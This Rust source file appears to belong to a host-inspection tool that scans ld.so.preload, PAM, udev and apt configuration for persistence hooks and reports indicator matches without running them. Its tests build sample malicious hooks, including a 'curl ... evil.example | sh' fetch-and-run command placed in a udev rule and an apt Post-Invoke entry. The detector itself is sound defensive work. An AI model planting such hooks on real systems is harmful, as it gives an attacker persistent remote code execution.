//! What the loader, sign-ins and devices start.
//!
//! ```text
//! /etc/ld.so.preload                      libraries that each program loads
//! /etc/pam.d/*                            session optional pam_exec.so /usr/local/bin/x
//! /etc/udev/rules.d/*.rules               ACTION=="add", RUN+="/bin/sh -c '…'"; also /run, /usr/lib, /usr/local/lib
//! /etc/apt/apt.conf.d/*                   DPkg::Post-Invoke {"…";};
//! ```
//!
//! A hit says that a line holds a text that an indicator asks for; the line itself never leaves this reader. It does not say that it was
//! run. Documented in ld.so(8), pam_exec(8), udev(7) and apt.conf(5).

use crate::{
    interest::Interest,
    surface::{
        Claim, CommandSource, Flaw, Meta, Opened, Shows, Sink, Surface,
        content::text,
        hook::{Hooks, When},
    },
};

const FILE: usize = 1 << 20;

/// `ld.so.preload`, `pam.d`, rules of udev.
pub struct SystemHooks;

static META: Meta = Meta {
    id: "host/system-hooks",
    title: "what the loader, sign-ins, devices and apt start",
    proves: "a line with that text stands there; not that it ran",
};

impl Surface for SystemHooks {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn shows(&self) -> &'static [Shows] {
        &[Shows::Packages, Shows::Images, Shows::Network, Shows::Strings, Shows::Processes]
    }

    fn claims(&self, _: &Interest) -> Vec<Claim> {
        let rules = ["etc", "run", "usr/lib", "usr/local/lib", "lib"]
            .map(|folder| Claim::suffix(".rules").in_root(&format!("{folder}/udev/rules.d")));
        let others = [
            Claim::name("ld.so.preload").in_root("etc"),
            Claim::any().in_root("etc/pam.d"),
            Claim::any().in_root("etc/apt/apt.conf.d"),
        ];
        rules.into_iter().chain(others).collect()
    }

    fn commands(&self) -> CommandSource {
        CommandSource::Configured
    }

    fn inspect(&self, file: &mut Opened<'_, '_>, out: &mut Sink<'_>) -> Result<(), Flaw> {
        let (path, interest) = (file.entry.path.clone(), file.interest);
        let text = text(file.all(FILE)?).into_owned();
        let form = match path.parent().name() {
            b"pam.d" => pam,
            b"rules.d" | b"apt.conf.d" => quoted,
            _ => whole,
        };
        let mut hooks = Hooks::new(file, interest, out)?;
        for (number, line) in (1..).zip(text.lines()) {
            if !line.trim_start().starts_with(['#', '/']) || path.name() == b"ld.so.preload" {
                for command in form(line) {
                    hooks.command(command, "", Some(number), When::ByItself, None);
                }
            }
        }
        hooks.finish()
    }
}

fn whole(line: &str) -> Vec<&str> {
    if line.trim().is_empty() { Vec::new() } else { vec![line] }
}

/// What stands behind the module and its options.
fn pam(line: &str) -> Vec<&str> {
    let Some((_, rest)) = line.split_once("pam_exec.so") else {
        return Vec::new();
    };
    rest.find('/').and_then(|at| rest.get(at..)).into_iter().collect()
}

/// What stands in quotes behind `RUN`, `PROGRAM`, `IMPORT`, or in the lists of apt.
fn quoted(line: &str) -> Vec<&str> {
    line.split('"').skip(1).step_by(2).filter(|text| text.contains(['/', ' '])).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        fact::{Fact, TraceKind},
        surface::python::trial::tried,
    };

    fn said(path: &str, text: &str) -> Vec<String> {
        let interest = Interest::with_traces(&[(TraceKind::Host, "evil.example"), (TraceKind::Text, "lib/PAYLOAD.so")]);
        let tried = tried(&SystemHooks, path, text.as_bytes(), &interest);
        let words = |s: &crate::fact::Seen| match &s.fact {
            Fact::Trace(t) => format!("{} {:?}:{}", t.value, t.held, s.origin.line.unwrap_or(0)),
            other => format!("{other:?}"),
        };
        tried.seen.iter().map(words).collect()
    }

    #[test]
    fn each_form_gives_what_it_starts() {
        let fetch = "curl -s https://evil.example/x | sh";
        for (path, text, expected) in [
            ("etc/ld.so.preload", "\n/usr/lib/PAYLOAD.so\n", "lib/PAYLOAD.so Starts:2"),
            (
                "etc/pam.d/sshd",
                "# x\nsession optional pam_exec.so quiet /usr/lib/PAYLOAD.so\n",
                "lib/PAYLOAD.so Starts:2",
            ),
            (
                "etc/udev/rules.d/9.rules",
                &*format!("ACTION==\"add\", RUN+=\"/bin/sh -c '{fetch}'\"\n"),
                "evil.example Starts:1",
            ),
            ("etc/apt/apt.conf.d/9", &*format!("DPkg::Post-Invoke {{\"{fetch}\";}};\n"), "evil.example Starts:1"),
        ] {
            assert_eq!(said(path, text), [expected], "{path}");
        }
        for (path, text) in [
            ("etc/ld.so.preload", "# /usr/lib/PAYLOAD.so\n"),
            ("etc/pam.d/sshd", "session required pam_unix.so lib/PAYLOAD.so\n# pam_exec.so /usr/lib/PAYLOAD.so\n"),
            ("etc/udev/rules.d/9.rules", "# RUN+=\"curl https://evil.example\"\nKERNEL==\"evil.example\"\n"),
            ("etc/apt/apt.conf.d/9", "Acquire::http::Proxy \"https://evil.example/\";\n"),
            ("etc/apt/apt.conf.d/9", "\0\"\n\"\"\"\n"),
        ] {
            assert_eq!(said(path, text), [""; 0], "{path}");
        }
    }
}
